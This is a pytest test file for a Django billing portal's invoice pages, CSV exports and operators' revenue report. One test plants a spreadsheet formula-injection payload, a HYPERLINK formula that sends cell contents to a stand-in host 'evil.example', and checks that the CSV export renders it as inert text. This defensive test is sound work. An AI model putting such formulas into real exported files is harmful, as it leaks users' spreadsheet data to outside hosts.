"""Invoice pages and the operators' revenue report, on real PostgreSQL: usage goes through the
ledger and invoices through billing.services.invoicing, as in production. Credit grants large
enough to pay an invoice keep Stripe out of it; an organization without credit or card is left
with an open (or, once payment is tried, failed) invoice."""

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from billing.models import CreditGrant, Invoice, Rate
from billing.reports import CSV_COLUMNS
from billing.services.invoicing import invoice_create, invoice_pay
from billing.services.ledger import usage_record
from portal.models import Membership
from tests.portal.factories import UserFactory, member, organization_of

pytestmark = pytest.mark.django_db

H100 = "NVIDIA H100 80GB HBM3:node"
T0 = datetime(2026, 1, 1, tzinfo=UTC)

# Pinned query counts. Every signed-in page: session, user, acting membership; a member's
# page also the organization switcher's memberships. Then the page's own reads: invoices (list);
# invoices and their lines (CSV); revenue rows, outstanding invoices, credit granted and spent.
LIST_QUERIES = 5
CSV_QUERIES = 5
REVENUE_QUERIES = 7


def _month(n: int) -> tuple[datetime, datetime]:
    start = T0.replace(year=T0.year + n // 12, month=n % 12 + 1)
    end = start.replace(year=start.year + start.month // 12, month=start.month % 12 + 1)
    return start, end


def _invoices(org, months: int = 1, *, gpu_hours: int = 2, tokens: int = 0) -> list[Invoice]:
    """`months` monthly invoices, each for `gpu_hours` H100 hours (and `tokens` input tokens)."""
    made = []
    for n in range(months):
        start, end = _month(n)
        usage_record(
            organization=org, idempotency_key=f"test:{org.pk}:gpu:{n}", meter="gpu_seconds",
            item=H100, quantity=Decimal(3600 * gpu_hours), started_at=start,
            ended_at=start + timedelta(hours=gpu_hours), source="test",
        )  # fmt: skip
        if tokens:
            usage_record(
                organization=org, idempotency_key=f"test:{org.pk}:tok:{n}", meter="input_tokens",
                item="smollm2", quantity=Decimal(tokens), started_at=start, ended_at=start,
                source="gateway",
            )  # fmt: skip
        made.append(invoice_create(organization=org, start=start, end=end))
    return made


@pytest.fixture
def token_rate():
    return Rate.objects.create(
        meter="input_tokens", item="smollm2", unit="million", unit_quantity=10**6,
        price=Decimal("0.10"),
    )  # fmt: skip


@pytest.fixture
def billing_manager(client):
    user = member(Membership.Role.BILLING)
    org = organization_of(user)
    CreditGrant.objects.create(organization=org, amount=Decimal("1000.00"))
    client.force_login(user)
    return org


def _csv(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    reader = csv.reader(io.StringIO(response.content.decode()))
    header = next(reader)
    assert header == CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


# --- tenant pages ------------------------------------------------------------------------------


def test_given_invoices_paid_by_credit_when_listing_then_each_shows_period_state_and_totals(
    client, billing_manager, token_rate
):
    invoices = _invoices(billing_manager, months=2, tokens=2_500_000)

    response = client.get(reverse("invoices:list"))

    assert response.status_code == 200
    html = response.content.decode()
    for invoice in invoices:
        assert str(invoice) in html
        assert invoice.state == Invoice.State.PAID
        assert (invoice.subtotal, invoice.credit_applied, invoice.total_due) == (
            Decimal("5.23"), Decimal("5.23"), Decimal("0.00"),
        )  # fmt: skip
    assert "2026-01-01 – 2026-02-01" in html and "2026-02-01 – 2026-03-01" in html
    assert html.count(">Paid<") == 2 and "5.23 USD" in html


def test_given_an_invoice_when_opening_it_then_it_shows_parties_lines_totals_and_print_styles(
    client, billing_manager, token_rate
):
    (invoice,) = _invoices(billing_manager, tokens=2_500_000)

    response = client.get(reverse("invoices:detail", args=[invoice.pk]))

    assert response.status_code == 200
    html = response.content.decode()
    assert (
        f"Invoice {invoice}" in html and billing_manager.name in html and "GPU Storefront" in html
    )
    assert "2 GPU-hour" in html and "2.49 / GPU-hour" in html and "4.98" in html
    assert "2.5 million" in html and "0.10 / million" in html and "0.25" in html
    assert 'id="invoice-subtotal">5.23<' in html
    assert 'id="invoice-credit">−5.23<' in html
    assert 'id="invoice-total-due">0.00<' in html
    spend = invoice.credit_spends.get()
    assert f"Prepaid credit (grant #{spend.grant_id})" in html
    assert "@media print" in html and "cdn" not in html.lower()


def test_given_an_invoice_when_exporting_csv_then_rows_match_its_lines(
    client, billing_manager, token_rate
):
    (invoice,) = _invoices(billing_manager, tokens=2_500_000)

    rows = _csv(client.get(reverse("invoices:csv", args=[invoice.pk])))

    lines = list(invoice.lines.order_by("pk"))
    assert [(r["meter"], r["item"], r["units"], r["unit"], r["unit_price"], r["amount"])
            for r in rows] == [
        (line.meter, line.item, str(line.units), line.unit, str(line.unit_price), str(line.amount))
        for line in lines
    ]  # fmt: skip
    assert {r["invoice"] for r in rows} == {str(invoice)}
    assert sum(Decimal(r["amount"]) for r in rows) == invoice.subtotal


def test_given_several_invoices_when_exporting_all_then_every_line_of_every_invoice_is_a_row(
    client, billing_manager
):
    invoices = _invoices(billing_manager, months=3)
    _invoices(organization_of(member()), months=1)  # another organization's: not exported

    rows = _csv(client.get(reverse("invoices:list_csv")))

    assert sorted(r["invoice"] for r in rows) == sorted(str(i) for i in invoices)
    assert all(r["amount"] == "4.98" and r["state"] == "paid" for r in rows)


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_given_an_item_that_is_a_formula_when_exporting_csv_then_it_is_inert_text(
    client, billing_manager
):
    # A model name reaches the ledger from a gateway request: text the customer chose.
    Rate.objects.create(
        meter="input_tokens", item=HYPERLINK, unit="million", unit_quantity=10**6,
        price=Decimal("0.10"),
    )  # fmt: skip
    start, end = _month(0)
    usage_record(
        organization=billing_manager, idempotency_key="test:formula", meter="input_tokens",
        item=HYPERLINK, quantity=Decimal(2_500_000), started_at=start, ended_at=start,
        source="gateway",
    )  # fmt: skip
    invoice = invoice_create(organization=billing_manager, start=start, end=end)

    for url in (reverse("invoices:csv", args=[invoice.pk]), reverse("invoices:list_csv")):
        [row] = _csv(client.get(url))

        assert row["item"] == "'" + HYPERLINK
        assert (row["quantity"], row["amount"]) == ("2500000.000000", "0.25")
        live = [c for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert live == []


def test_given_another_organizations_invoice_when_opening_or_exporting_it_then_404(
    client, billing_manager
):
    (foreign,) = _invoices(organization_of(member()))

    assert client.get(reverse("invoices:detail", args=[foreign.pk])).status_code == 404
    assert client.get(reverse("invoices:csv", args=[foreign.pk])).status_code == 404
    assert str(foreign) not in client.get(reverse("invoices:list")).content.decode()


def test_given_a_member_without_billing_rights_when_opening_invoices_then_403(client):
    user = member(Membership.Role.MEMBER)
    (invoice,) = _invoices(organization_of(user))
    client.force_login(user)

    for url in (
        reverse("invoices:list"),
        reverse("invoices:list_csv"),
        reverse("invoices:detail", args=[invoice.pk]),
        reverse("invoices:csv", args=[invoice.pk]),
    ):
        assert client.get(url).status_code == 403, url


def test_given_an_anonymous_visitor_when_opening_invoices_then_sent_to_sign_in(client):
    response = client.get(reverse("invoices:list"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize(
    ("url_name", "pinned"), [("invoices:list", LIST_QUERIES), ("invoices:list_csv", CSV_QUERIES)]
)
def test_given_one_or_ten_invoices_when_listing_then_the_query_count_is_the_same(
    client, billing_manager, django_assert_max_num_queries, url_name, pinned
):
    _invoices(billing_manager, months=1)
    with django_assert_max_num_queries(pinned) as one:
        assert client.get(reverse(url_name)).status_code == 200

    # invoice_create returns the existing invoice for a period: months 2..10 are new.
    assert len(_invoices(billing_manager, months=10)) == 10
    with django_assert_max_num_queries(pinned) as ten:
        response = client.get(reverse(url_name))
    assert response.status_code == 200
    assert len(ten) == len(one)


# --- operator page -----------------------------------------------------------------------------


@pytest.fixture
def operator(client):
    user = UserFactory(is_staff=True)
    client.force_login(user)
    return user


def test_given_paid_open_and_failed_invoices_when_an_operator_opens_revenue_then_all_show(
    client, operator, token_rate
):
    paying = organization_of(member())
    CreditGrant.objects.create(organization=paying, amount=Decimal("100.00"))
    _invoices(paying, months=2, tokens=2_500_000)  # 2 x (4.98 GPU + 0.25 tokens), by credit
    unpaid = organization_of(member())
    (open_invoice,) = _invoices(unpaid)
    (failed,) = _invoices(organization_of(member()), gpu_hours=1)
    failed = invoice_pay(invoice=failed)  # no card on file: fails without calling Stripe
    assert (open_invoice.state, failed.state) == ("open", "payment_failed")

    response = client.get(reverse("billing_operator:revenue"))

    assert response.status_code == 200
    html = response.content.decode()
    report = response.context["report"]
    assert report.by_product == [
        ("NVIDIA H100 80GB HBM3:node · GPU-seconds", Decimal("9.96")),
        ("smollm2 · Input tokens", Decimal("0.50")),
    ]
    assert report.total == Decimal("10.46") and 'id="revenue-total">10.46<' in html
    assert [i.pk for i in report.outstanding] == [open_invoice.pk, failed.pk]
    assert report.outstanding_total == Decimal("7.47")
    assert str(open_invoice) in html and str(failed) in html and "No card on file." in html
    (balance,) = [b for b in report.balances if b.organization_id == paying.pk]
    assert (balance.granted, balance.spent, balance.balance) == (
        Decimal("100.00"), Decimal("10.46"), Decimal("89.54"),
    )  # fmt: skip
    assert "89.54" in html
    chart = json.loads(re.search(r'id="revenue-data"[^>]*>(.*?)</script>', html, re.S)[1])
    today = report.last.isoformat()
    assert chart["labels"][-1] == today
    assert {d["label"]: d["data"][-1] for d in chart["datasets"]} == {
        "NVIDIA H100 80GB HBM3:node · GPU-seconds": 9.96,
        "smollm2 · Input tokens": 0.5,
    }
    assert "vendor/chart.js/chart.umd.js" in html and "billing/revenue.js" in html


def test_given_expired_credit_when_an_operator_opens_revenue_then_it_is_not_a_balance(
    client, operator
):
    org = organization_of(member())
    CreditGrant.objects.create(
        organization=org, amount=Decimal("50.00"), expires_at=datetime(2020, 1, 1, tzinfo=UTC)
    )
    CreditGrant.objects.create(organization=org, amount=Decimal("20.00"))

    report = client.get(reverse("billing_operator:revenue")).context["report"]

    (balance,) = [b for b in report.balances if b.organization_id == org.pk]
    assert balance.balance == Decimal("20.00")


def test_given_a_non_staff_user_when_opening_revenue_then_redirected_to_the_admin_sign_in(client):
    client.force_login(member())

    response = client.get(reverse("billing_operator:revenue"))

    assert response.status_code == 302 and response["Location"].startswith(reverse("admin:login"))


def test_given_one_or_ten_invoices_per_org_when_an_operator_opens_revenue_then_queries_are_fixed(
    client, operator, django_assert_max_num_queries
):
    org = organization_of(member())
    CreditGrant.objects.create(organization=org, amount=Decimal("1000.00"))
    _invoices(org, months=1)
    _invoices(organization_of(member()), months=1)  # open
    with django_assert_max_num_queries(REVENUE_QUERIES) as one:
        assert client.get(reverse("billing_operator:revenue")).status_code == 200

    for _ in range(3):
        more = organization_of(member())
        CreditGrant.objects.create(organization=more, amount=Decimal("1000.00"))
        _invoices(more, months=10)
        _invoices(organization_of(member()), months=10)  # open
    with django_assert_max_num_queries(REVENUE_QUERIES) as many:
        assert client.get(reverse("billing_operator:revenue")).status_code == 200
    assert len(many) == len(one)
